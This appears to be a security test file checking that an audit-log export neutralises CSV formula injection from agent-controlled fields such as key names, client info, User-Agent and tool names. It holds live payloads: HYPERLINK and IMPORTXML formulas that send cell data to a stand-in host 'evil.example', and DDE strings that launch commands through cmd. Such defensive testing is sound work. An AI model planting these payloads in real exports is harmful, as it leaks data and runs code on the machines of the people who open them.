// CSV formula injection through the audit export. An agent (or an admin naming a key) controls text
// the audit log records — the key's name (actor label), MCP clientInfo and User-Agent (client name and
// version), resource URIs (target) and tool names (action) — and an auditor later opens the export in
// a spreadsheet. Every CSV cell that would start a formula (= + - @ tab CR) must arrive neutralised
// with a leading ' and correctly quoted; the JSONL export must carry the data unchanged.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AUDIT_CSV_COLUMNS } from "@/lib/audit/export";
import { testRuntime } from "@/test/database";
import { actionsFromBuild, callAction, get, mcp, resultOf, signIn, startTarget, type Session, type Target } from "./console-attacker";

const ADMIN = "admin@shop.test";
const AUDITOR = "auditor@shop.test";

/** What the attacker plants, by the column it lands in. */
const KEY_NAME = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`;
const CLIENT_NAME = `+cmd|' /C calc'!A0`;
const CLIENT_VERSION = `-2+3+cmd|' /C calc'!A0`;
const USER_AGENT = `@SUM(1+1)*cmd|' /C calc'!A0`;
const TARGETS = ["\t=1+1", "\r=1+1", "=1+1,\"quoted\",\r\nsecond line", "-1+1", "@A1"];
const TOOLS = [`=cmd|' /C notepad'!A0`, "+1+1", "-1-1", "@SUM(A1:A9)", "\t=2+2", "\r=3+3"];

const FORMULA_START = /^[=+\-@\t\r]/;

/** A strict RFC 4180 parser: throws on a stray quote, so broken quoting cannot pass unnoticed. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const endRow = () => {
    rows.push(row);
    row = [];
  };
  while (i < text.length) {
    let cell = "";
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error("unterminated quoted cell");
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        cell += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r" && text[i] !== "\n") {
        if (text[i] === '"') throw new Error(`stray quote in an unquoted cell at offset ${i}`);
        cell += text[i];
        i += 1;
      }
    }
    row.push(cell);
    if (text[i] === ",") {
      i += 1;
    } else if (text.startsWith("\r\n", i)) {
      i += 2;
      endRow();
    } else if (i >= text.length) {
      endRow();
    } else {
      throw new Error(`unexpected ${JSON.stringify(text[i])} after a cell at offset ${i}`);
    }
  }
  return rows;
}

type JsonEvent = { id: string; actorLabel: string | null; action: string; target: string | null; clientName: string | null; clientVersion: string | null; arguments: unknown };

describe(`CSV formula injection in the audit export on ${testRuntime()}`, () => {
  let t: Target;
  let auditor: Session;
  let keyPrefix = "";

  beforeAll(async () => {
    t = await startTarget([
      { email: ADMIN, roles: { demo: ["admin"] } },
      { email: AUDITOR, roles: { demo: ["auditor"] } },
    ]);
    const admin = await signIn(t.baseUrl, ADMIN);
    auditor = await signIn(t.baseUrl, AUDITOR);
    // The admin names a key (perhaps as told by the person who asked for it)…
    const issued = resultOf(
      await callAction(admin, { path: "/t/demo/keys", actionId: actionsFromBuild().issueKeyAction?.id ?? "", fields: { tenant: "demo", name: KEY_NAME, preset: "analyst" } }),
    );
    expect(issued.status).toBe("issued");
    const { secret, displayPrefix } = issued.key as { secret: string; displayPrefix: string };
    keyPrefix = displayPrefix;
    // …and the agent holding it chooses everything else.
    expect((await mcp(t.baseUrl, secret, "initialize", { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: CLIENT_NAME, version: CLIENT_VERSION } })).status).toBe(200);
    await mcp(t.baseUrl, secret, "tools/list", {}, { "User-Agent": USER_AGENT });
    for (const uri of TARGETS) await mcp(t.baseUrl, secret, "resources/read", { uri });
    for (const name of TOOLS) await mcp(t.baseUrl, secret, "tools/call", { name, arguments: { note: "=1+1" } });
    await mcp(t.baseUrl, secret, "tools/call", { name: "query_metric", arguments: { metric: "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")", window: "-1" } });
  });
  afterAll(async () => {
    await t?.stop();
  });

  it("neutralises and quotes every formula-looking CSV cell", async () => {
    const res = await get(auditor, "/t/demo/audit/export?format=csv&surface=mcp");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="socode-audit-demo-[\d-]+\.csv"$/);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("cache-control")).toBe("no-store");
    const text = await res.text();
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
    const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);
    expect(rows.length).toBeGreaterThanOrEqual(2 + TARGETS.length + TOOLS.length);
    for (const row of rows) {
      expect(row, "row width").toHaveLength(AUDIT_CSV_COLUMNS.length);
      for (const [i, cell] of row.entries()) {
        expect(FORMULA_START.test(cell), `${AUDIT_CSV_COLUMNS[i]} cell ${JSON.stringify(cell)} would run as a formula`).toBe(false);
      }
    }
    const cells = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => rows.map((r) => r[col(name)] ?? "");
    // Each planted value arrives whole, prefixed with a single quote and nothing else changed.
    expect(cells("actor_label")).toContain(`'${KEY_NAME} (${keyPrefix}…)`);
    expect(cells("client_name")).toContain(`'${CLIENT_NAME}`);
    expect(cells("client_version")).toContain(`'${CLIENT_VERSION}`);
    expect(cells("client_name")).toContain(`'${USER_AGENT}`);
    for (const target of TARGETS) expect(cells("target"), JSON.stringify(target)).toContain(`'${target}`);
    for (const tool of TOOLS) expect(cells("action"), JSON.stringify(tool)).toContain(`'${tool}`);
    // Arguments are a JSON object (starts with "{"), carried intact.
    const args = cells("arguments").find((a) => a.includes("IMPORTXML"));
    expect(JSON.parse(args ?? "null")).toMatchObject({ metric: expect.stringMatching(/^=IMPORTXML/), window: "-1" });
    // Cells holding a quote, a comma or a line break are quoted in the raw text (doubling the quote).
    expect(text).toContain(`"'=1+1,""quoted"",\r\nsecond line"`);
    expect(text).toContain(`"'${KEY_NAME.replace(/"/g, '""')} (${keyPrefix}…)"`);
  });

  it("carries the same values unchanged in JSONL, one valid JSON object per line", async () => {
    const res = await get(auditor, "/t/demo/audit/export?format=jsonl&surface=mcp");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^application\/x-ndjson/);
    const text = await res.text();
    expect(text.endsWith("\n")).toBe(true);
    const events = text
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line) as JsonEvent);
    const values = (pick: (e: JsonEvent) => unknown) => events.map(pick);
    expect(values((e) => e.actorLabel)).toContain(`${KEY_NAME} (${keyPrefix}…)`);
    expect(values((e) => e.clientName)).toContain(CLIENT_NAME);
    expect(values((e) => e.clientVersion)).toContain(CLIENT_VERSION);
    expect(values((e) => e.clientName)).toContain(USER_AGENT);
    for (const target of TARGETS) expect(values((e) => e.target)).toContain(target);
    for (const tool of TOOLS) expect(values((e) => e.action)).toContain(tool);
    // No spreadsheet escaping leaks into JSONL.
    expect(events.some((e) => [e.actorLabel, e.action, e.target, e.clientName, e.clientVersion].some((v) => typeof v === "string" && v.startsWith("'")))).toBe(false);

    // CSV and JSONL list the same events for the same filter.
    const csv = parseCsv(await (await get(auditor, "/t/demo/audit/export?format=csv&surface=mcp")).text()).slice(1);
    expect(new Set(csv.map((r) => r[AUDIT_CSV_COLUMNS.indexOf("id")]))).toEqual(new Set(events.map((e) => String(e.id))));
  });
});
